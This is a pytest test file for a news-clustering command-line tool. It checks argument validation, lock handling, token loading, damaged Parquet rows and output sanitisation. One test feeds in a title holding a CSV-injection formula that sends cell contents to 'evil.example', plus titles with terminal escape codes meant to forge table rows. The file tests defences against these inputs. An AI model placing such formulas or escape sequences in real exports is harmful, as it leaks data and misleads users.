"""The command line against hostile or mistaken input: numbers out of range, dates that are
not dates, a report path that cannot be written, a busy index, titles that forge table rows
or spreadsheet formulas, damaged embedded Parquet rows. In process (``main``), on indexes
built with the hashing encoder (no model load)."""
import csv
import fcntl
import io
import json
import math
import sqlite3

import pytest

from samestory.cli import main

STORM = ("Storm Ingrid closed the port of Rotterdam on Tuesday. Ships queued at the entrance and "
         "the harbour master said the port would reopen once the wind dropped below gale force.")
BUDGET = ("Valdoria's parliament passed the 2027 budget after an all-night session. Lawmakers approved "
          "it by 61 votes to 54 after a late amendment kept the fuel subsidy cut.")


def _hashing_index(db):
    """A new index that the CLI opens with the hashing encoder."""
    from samestory.corpus import Corpus
    from samestory.embed import load_encoder

    corpus = Corpus(db, encoder=load_encoder("hashing"), progress=False)
    with corpus.store.writer():
        corpus.store.set_meta("encoder", corpus.encoder.name)
        corpus.store.set_meta("encoder_spec", "hashing")
    return corpus


@pytest.mark.parametrize("argv, option", [
    (["index", "add", "f.jsonl", "--db", "x.db", "--batch-size", "0"], "--batch-size"),
    (["index", "add", "f.jsonl", "--db", "x.db", "--batch-size", "-1"], "--batch-size"),
    (["index", "add", "f.jsonl", "--db", "x.db", "--ray-workers", "0"], "--ray-workers"),
    (["index", "add", "f.jsonl", "--db", "x.db", "--lock-timeout", "-1"], "--lock-timeout"),
    (["index", "add", "f.jsonl", "--db", "x.db", "--lock-timeout", "nan"], "--lock-timeout"),
    (["index", "embed", "f.jsonl", "--out", "o", "--batch-size", "0"], "--batch-size"),
    (["index", "similar", "abc", "--db", "x.db", "-k", "-1"], "-k"),
    (["index", "similar", "abc", "--db", "x.db", "-k", "-5"], "-k"),
    (["index", "similar", "abc", "--db", "x.db", "-k", "0"], "-k"),
    (["index", "timeline", "--db", "x.db", "--top", "0"], "--top"),
    (["index", "serve", "--db", "x.db", "--port", "0"], "--port"),
    (["index", "serve", "--db", "x.db", "--port", "65536"], "--port"),
    (["index", "serve", "--db", "x.db", "--max-body-bytes", "0"], "--max-body-bytes"),
    (["index", "serve", "--db", "x.db", "--lock-timeout", "-0.5"], "--lock-timeout"),
    (["index", "serve", "--db", "x.db", "--token", "a", "--token-file", "t"], "--token"),
    (["index", "stories", "--db", "x.db", "--since", "-1"], "--since"),
    (["index", "stories", "--db", "x.db", "--since", "12"], "--since"),
])
def test_values_out_of_range_exit_2_with_argparses_message(argv, option, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)          # nothing the command might have started writes elsewhere
    with pytest.raises(SystemExit) as exit_:
        main(argv)
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert f"argument {option}" in err and len(err) < 1000, err
    assert not list(tmp_path.iterdir())


def test_an_unwritable_report_ends_the_run_before_anything_is_indexed(tmp_path, capsys):
    feed = tmp_path / "feed.jsonl"
    feed.write_text(json.dumps({"text": STORM}) + "\n")
    bad = str(tmp_path / "no" / "such" / "folder" / "report.jsonl")
    assert main(["index", "add", str(feed), "--db", str(tmp_path / "news.db"), "--report", bad]) == 2
    assert main(["cluster", str(feed), "--out", str(tmp_path / "s.jsonl"), "--report", bad]) == 2
    assert main(["index", "embed", str(feed), "--out", str(tmp_path / "parts"), "--report", bad]) == 2
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 3 and all(line.startswith("samestory: error: --report: cannot write") for line in err)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["feed.jsonl"]      # no index, no output


def test_a_busy_index_exits_75_with_one_line(tmp_path, capsys):
    feed = tmp_path / "feed.jsonl"
    feed.write_text(json.dumps({"text": STORM}) + "\n")
    db = tmp_path / "news.db"
    _hashing_index(db)
    with open(f"{db}.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)      # another writer holds the index
        code = main(["index", "add", str(feed), "--db", str(db), "--lock-timeout", "0.2"])
    assert code == 75
    err = [line for line in capsys.readouterr().err.splitlines() if line.startswith("samestory")]   # not tqdm's
    assert len(err) == 1 and err[0].startswith("samestory: error:") and "another process" in err[0]


def test_the_token_comes_from_a_file_or_the_environment(tmp_path, monkeypatch, capsys):
    from samestory.cli import build_parser
    from samestory.cli.commands import service_token
    from samestory.types import InputError

    parser = build_parser()
    secret = tmp_path / "token"
    secret.write_text("s3cret-token\nsecond line is not read\n")
    monkeypatch.setenv("SAMESTORY_TOKEN", "from-env")
    assert service_token(parser.parse_args(["index", "serve", "--db", "x", "--token-file", str(secret)])) == "s3cret-token"
    assert service_token(parser.parse_args(["index", "serve", "--db", "x"])) == "from-env"
    monkeypatch.delenv("SAMESTORY_TOKEN")
    assert service_token(parser.parse_args(["index", "serve", "--db", "x"])) is None
    secret.write_text("\n")
    with pytest.raises(InputError, match="empty"):
        service_token(parser.parse_args(["index", "serve", "--db", "x", "--token-file", str(secret)]))
    with pytest.raises(InputError, match="cannot read"):
        service_token(parser.parse_args(["index", "serve", "--db", "x", "--token-file", str(tmp_path / "none")]))
    with pytest.raises(SystemExit):
        parser.parse_args(["index", "serve", "--help"])
    help_text = " ".join(capsys.readouterr().out.split())
    assert "--token-file PATH" in help_text and "prefer SAMESTORY_TOKEN or --token-file" in help_text


def test_tables_and_csv_cannot_be_forged_by_a_title(tmp_path, capsys):
    from samestory.ingest import InputRecord

    db = tmp_path / "news.db"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    forged = "Port closes\n     99    999  2026-01-01T00:00:00+00:00  xx        FORGED ROW\x1b[2J"
    records = [{"id": "f", "title": formula, "text": BUDGET, "date": "2026-02-10T08:00:00Z"},
               {"id": "n", "title": forged, "text": STORM, "date": "2026-02-11T08:00:00Z"},
               {"id": "n2", "title": forged, "text": STORM + " Update: ferries wait.", "date": "2026-02-11T09:00:00Z"}]
    corpus = _hashing_index(db)
    corpus.add([InputRecord("t", i + 1, r) for i, r in enumerate(records)])
    corpus.close()
    capsys.readouterr()

    assert main(["index", "stories", "--db", str(db), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    labels = {r["label"] for r in rows}
    assert "'" + formula in labels and formula not in labels
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())

    assert main(["index", "stories", "--db", str(db)]) == 0
    out = capsys.readouterr().out
    assert len(out.splitlines()) == 1 + len(rows) and "\x1b" not in out
    assert "Port closes 99 999 2026-01-01T00:00:00+00:00 xx FORGED ROW" in out

    from samestory.cli.render import write_stories
    from samestory.types import Story

    table = io.StringIO()
    write_stories([Story(7, "Late\r\n   7   1  x\x1b[2J\x00end", "2026", "2026", 1, ["en\n"])], "text", table)
    assert table.getvalue().splitlines()[1].endswith("en        Late 7 1 x [2J end")

    assert main(["index", "similar", "n", "--db", str(db), "-k", "2", "--no-rescore"]) == 0
    out = capsys.readouterr().out
    assert len(out.splitlines()) == 1 + 2 and "\x1b" not in out
    assert main(["index", "duplicates", "--db", str(db), "--format", "json"]) == 0
    groups = json.loads(capsys.readouterr().out)["groups"]
    assert main(["index", "duplicates", "--db", str(db)]) == 0
    out = capsys.readouterr().out
    assert len(out.splitlines()) == sum(1 + len(g["copies"]) for g in groups) and "\x1b" not in out


def test_damaged_embedded_rows_are_errors_and_the_load_goes_on(tmp_path, capsys):
    """Rows as ``samestory embed`` writes them (its functions, with the hashing encoder), plus
    damaged copies: a NaN vector, a vector of another length, no signature, an unreadable
    article with no line number. Each row comes out once; the good ones are stored."""
    from samestory.ingest import iter_records
    from samestory.scale.embedded import corpus_clean, embed_records, write_parquet

    db = tmp_path / "news.db"
    encoder = _hashing_index(db).encoder
    feed = tmp_path / "feed.jsonl"
    feed.write_text(json.dumps({"id": "a", "text": STORM}) + "\n" + json.dumps({"id": "b", "text": BUDGET}) + "\n")
    [good] = list(embed_records(iter_records([str(feed)]), encoder, corpus_clean()))
    assert len(good) == 2 and all(r["vector"] and r["signature"] for r in good)
    nan = {**good[0], "vector": [math.nan] + good[0]["vector"][1:]}
    short = {**good[1], "vector": good[1]["vector"][:10]}
    unsigned = {**good[0], "signature": None}
    unreadable = {**good[1], "line": None, "article": "{not json"}
    rows = [nan, good[0], short, unsigned, good[1], unreadable]
    rows = [{**r, "seq": i, "line": r["line"] if r["line"] is None else 10 + i} for i, r in enumerate(rows)]
    write_parquet([rows], tmp_path / "parts", encoder.name)

    report = tmp_path / "report.jsonl"
    code = main(["index", "add", "--db", str(db), "--from-embedded", str(tmp_path / "parts"), "--report", str(report)])
    assert code == 0, capsys.readouterr().err
    out = [json.loads(line) for line in report.read_text().splitlines()]
    assert [o["status"] for o in out] == ["error", "added", "error", "error", "added", "error"]
    errors = [o["error"] for o in out if o["status"] == "error"]
    assert "NaN" in errors[0] and "10 values" in errors[1] and "signature" in errors[2]
    assert "damaged embedded row" in errors[3] and out[5]["line"] == 0
    con = sqlite3.connect(db)
    vectors = [v for (v,) in con.execute("SELECT vec FROM articles")]
    assert len(vectors) == 2
    import numpy as np

    assert all(np.isfinite(np.frombuffer(v, np.float32)).all() for v in vectors)
